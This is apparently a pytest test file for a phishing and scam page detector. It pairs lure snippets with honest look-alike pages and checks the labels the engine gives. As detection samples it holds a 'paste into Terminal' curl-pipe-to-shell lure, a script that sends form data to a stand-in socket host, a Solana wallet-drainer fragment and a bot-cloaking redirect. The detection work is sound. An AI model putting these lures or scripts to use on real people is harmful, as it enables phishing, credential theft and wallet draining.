"""Guises that need no list of brands, each beside an honest page that looks like it."""

from __future__ import annotations

import pytest

from app.scans.engine import address
from tests.scans.engine.test_kinds import HOME, LOGIN, of_page, of_script

CODE = '<p>Your code: <b>HK7Q-9TLW</b></p><a href="https://microsoft.com/devicelogin">Continue</a>'
CONSENT = (
    '<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&redirect_uri=https%3A%2F%2F{}%2Fcb'
    '&scope=offline_access%20Mail.Read">Connect</a>'
)
WINDOW = '<div class="{}"><span>https://steamcommunity.com</span></div><iframe src="/login.php"></iframe>'
UNION = "<title>Lakeshore Credit Union</title><p>Lakeshore Credit Union</p>" + LOGIN
PIN = '<form><input name=pin type=password><input name=otp placeholder="One-time code"></form>'
CARDS = "<p>Check your gift card: Amazon, Steam, Apple</p><form><input name=code placeholder='{}'></form>"
FOUND = {
    "DEVICE_CODE_LURE": (CODE, HOME),
    "CONSENT_LURE": (CONSENT.format("documents.example.top"), HOME),
    "DRAWN_BROWSER": (WINDOW.format("url-bar"), HOME),
    "NAME_WITH_LURE_IN_HOST": (UNION, "https://lakeshore-onlineaccess.com/"),
    "LOOK_OF_OTHER_SITE": ('<link rel=icon href="https://lakeshorecu.org/i.ico">' + UNION, "https://member-area.example.net/"),
    "SAVED_PAGE": ("<!-- saved from url=(0028)https://www.lakeshorecu.org/ -->" + LOGIN, HOME),
    "PIN_WITH_CODE": (PIN, HOME),
    "GIFT_CARD_CODES": (CARDS.format("Card code"), HOME),
    "ADVANCE_FEE": (
        "Pay the income tax before your withdrawal, within 72 hours, to 0x51aF7d2C8b3E4a5F60718293a4B5c6D7e8F90a1B",
        HOME,
    ),
    "UNTRACEABLE_PAYMENT": ("Donate today for the victims: 0x51aF7d2C8b3E4a5F60718293a4B5c6D7e8F90a1B", HOME),
    "FAKE_SHOP_SIGNS": ("<p><s>$799.00</s> $59.99</p><p><s>$649.00</s> $49.99</p>", HOME),
    "PIN_WITH_PHONE": ("<form><input name=pin type=password><input name=mobile></form>", HOME),
    "MESSENGER_CODE": (
        "<p>Enter this code in WhatsApp, Linked devices</p><form><input name=phone></form>",
        "https://chat-whatsapp-family.example.net/",
    ),
    "NAME_WITH_WORD_IN_HOST": (UNION, "https://lakeshore-verification.com/"),
    "BRAND_NAMED_AT_FORM": ("<p>Interview with us. Log in to Facebook.</p>" + LOGIN, HOME),
    "WEB_SHELL": ("<p>Uname: Linux web12 [ FilesMan ]</p><form><input type=password name=p></form>", HOME),
    "RUN_COMMAND_LURE": (
        "Your audio driver is missing. To join the meeting, open Terminal, paste this and press Return: curl -fsSL a.sh | zsh",
        HOME,
    ),
    "OFFERS_DISGUISED_PROGRAM": ('<a href="/get/AnyConnect_Setup.js">Download</a>', HOME),
    "PASSWORDED_ARCHIVE": ('The archive is protected. Password: obs2025 <a href="/a.zip">Download</a>', HOME),
    "INVESTMENT_SCAM": ("Zarabiaj 900 zł dziennie, zysk gwarantowany, bez ryzyka.<form><input name=t></form>", HOME),
    "SECRETS_TO_DATA": ('<form action="data:text/html,x"><input type=password name=p></form>', HOME),
    "CRYPTO_GIVEAWAY": ("Send 1 ETH, get 2 ETH back: 0x51aF7d2C8b3E4a5F60718293a4B5c6D7e8F90a1B", HOME),
    "MAIL_PASSWORD_REQUEST": (
        "Invoice<form><input type=password name=p placeholder='Email password'><button>View</button></form>",
        HOME,
    ),
    "CARD_ON_ODD_HOST": (
        "<form><input type=password name=p><input name=a placeholder='ATM PIN'></form>",
        "http://203.0.113.45/login.html",
    ),
    "HIDDEN_FRAME_OF_ODD_HOST": ('<iframe src="http://counter.example-kit.net/l" width=1 height=1></iframe>', HOME),
    "PROGRAM_IN_BRANDS_NAME": ("<title>Netflix</title>Update.<script>location='/dl/a.msi'</script>", HOME),
    "APP_OUTSIDE_STORE": ('अज्ञात स्रोतों से इंस्टॉल की अनुमति दें। <a href="/a.apk">ऐप</a>', HOME),
    "FAKE_UPDATE": (
        "<p>You use an older version of Firefox.</p><script>a.download='Firefox.Update.js';a.click()</script>",
        HOME,
    ),
}
HONEST = {
    "a manual": ("<p>Run az login, open <a href='https://microsoft.com/devicelogin'>the page</a>, enter HK7Q-9TLW</p>", HOME),
    "a mail program": (CONSENT.format("www.gasthof-krone.example.net"), HOME),
    "a link to a page of Steam": (WINDOW.format("links"), HOME),
    "a credit union": ('<link rel=icon href="/i.ico">' + UNION, "https://online.lakeshorecu.org/"),
    "a firm on the host of many": (
        '<link rel=icon href="https://lakeshore.org/i.ico">' + UNION,
        "https://lakeshore.helpdesk-of-many.net/",
    ),
    "a gift card of its own": ("<p>Gift card of our tea house</p><form><input name=code placeholder=Code></form>", HOME),
    "a repairer": (
        "Virus on your computer? We help immediately, call 555 010 0188."
        + "".join(f'<a href="/{each}">{each}</a>' for each in ("prices", "team", "contact")),
        HOME,
    ),
    "an exchange": ("Send 0.1 BTC and receive 2 ETH to your address: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", HOME),
    "a lender": ("Kredit ohne Bearbeitungsgebühr, Sie zahlen nichts vorab.<form><input name=n></form>", HOME),
    "other ways in": ("<p>Sign in with Microsoft</p>" + LOGIN, HOME),
    "a fund": ("<p>Zysk nie jest gwarantowany. Wpłata 900 zł.</p><form><input name=t></form>", HOME),
    "a source": ('<a href="https://github.com/a/b/blob/main/setup_tool.js">setup_tool.js</a>', HOME),
    "an old browser": ("<p>Your browser is outdated.</p><a href='/help'>Help</a>", HOME),
}


@pytest.mark.parametrize("kind", FOUND)
def test_guises(kind: str) -> None:
    assert kind in of_page(*FOUND[kind])


@pytest.mark.parametrize("name", HONEST)
def test_honest_neighbors(name: str) -> None:
    assert not of_page(*HONEST[name]) - {"PRIZE_SIGNS"}


def test_fans_say_that_they_are_fans() -> None:
    at = "https://nintendo-museum.example-wiki.net/"
    assert "BRAND_HOST_ASKS" in of_page("<title>Nintendo Museum</title>" + LOGIN, at)
    assert not of_page("<title>Nintendo Museum</title><p>An unofficial fan project.</p>" + LOGIN, at)


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("wordpress.org.example-hoster.net", "ADDRESS_CARRIED_IN_HOST"),
        ("paypal.com.ezproxy.org", "ADDRESS_CARRIED_IN_HOST"),
        ("paypal.com.secure-login.example", "BRAND_ADDRESS_IN_HOST"),
        ("paypal.com.hosting-login.net", "BRAND_ADDRESS_IN_HOST"),
        ("paypal.com.mirror.top", "BRAND_ADDRESS_IN_HOST"),
        ("steamncommunlty.com", "BRAND_LOOKALIKE"),
    ],
)
def test_hosts_that_carry_addresses_of_others(host: str, kind: str) -> None:
    assert kind in address.judge_host(host)


def test_what_scripts_do_behind_a_form() -> None:
    modal = "s=io('wss://panel-rt.site');f.onsubmit=e=>s.emit('d',Object.fromEntries(new FormData(f)))"
    assert "SECRETS_SENT_BY_SCRIPT" in of_script(f"{LOGIN}<script>{modal}</script>")
    hidden = "document.onvisibilitychange=()=>location.replace('https://accounts-google-signin.top/x')"
    assert "SENT_TO_ODD_HOST" in of_script(f"<script>{hidden}</script>")
    drains = "solana.connect();b=c.getBalance(k);t.add(SystemProgram.transfer({lamports:b-5000}))"
    assert "WALLET_DRAINER" in of_script(f"<p>Claim your rewards</p><script>window.solana;{drains}</script>")


def test_markets_of_tokens_give_nothing_away() -> None:
    asks = "<script>window.ethereum;n.setApprovalForAll(MARKET,true)</script>"
    assert "WALLET_DRAINER" not in of_script(f"<p>Connect your wallet to bid.</p>{asks}")
    assert "WALLET_DRAINER" in of_script(f"<p>Connect your wallet to claim the airdrop.</p>{asks}")


def test_names_before_words_of_signing_in() -> None:
    assert "NAME_WITH_LURE_IN_HOST" in of_page(UNION, "https://lakeshore-cu.online-verify.net/")
    assert "NAME_WITH_LURE_IN_HOST" not in of_page(UNION, "https://lakeshore.help-center.example-desk.net/")


def test_robots_are_sent_to_the_brand() -> None:
    looks = "if(/bot|crawl/.test(navigator.userAgent)||navigator.webdriver)location.replace('https://www.paypal.com/')"
    assert "SENDS_ROBOTS_AWAY" in of_script(f"<script>{looks}</script>")
    assert "SENDS_ROBOTS_AWAY" not in of_script("<script>location.replace('https://www.paypal.com/')</script>")
